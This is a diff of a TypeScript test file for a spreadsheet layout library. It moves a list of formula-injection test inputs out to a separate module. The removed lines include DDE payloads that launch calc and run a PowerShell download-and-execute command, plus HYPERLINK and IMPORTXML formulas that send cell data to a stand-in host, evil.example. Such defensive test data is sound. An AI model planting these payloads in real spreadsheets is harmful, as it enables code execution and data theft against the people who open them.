@@ -11,36 +11,7 @@ import type { CellSpec, WorkbookSpec } from "../../../src/layout/spec";
 import { assertWorkbookMatchesSpec } from "../layoutContract";
 import { viewFakeWorkbook } from "./viewFakeWorkbook";
 import { importSpec, mertonAugust } from "./scenarios";
-
-export const HOSTILE = [
-  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
-  "=cmd|' /C calc'!A0",
-  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
-  "@SUM(1+9)*cmd|' /C calc'!A0",
-  "@SUM(A1:A10)",
-  "+1",
-  "-1",
-  "+A1",
-  "-2+3+cmd|' /C calc'!A0",
-  "=1+1",
-  "==1",
-  "'=1+1",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  " =1+1",
-  "=",
-  "-",
-  "@",
-  "12%",
-  "1,234",
-  "(5)",
-  "2017-09-05",
-  "TRUE",
-  "#N/A",
-  "=SUM(A1",
-  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
-];
+import { HOSTILE } from "./hostile";
 
 const write = (excel: FakeExcel, spec: WorkbookSpec) =>
   excel.run((ctx) => applyWorkbookSpec(ctx as unknown as Excel.RequestContext, spec));
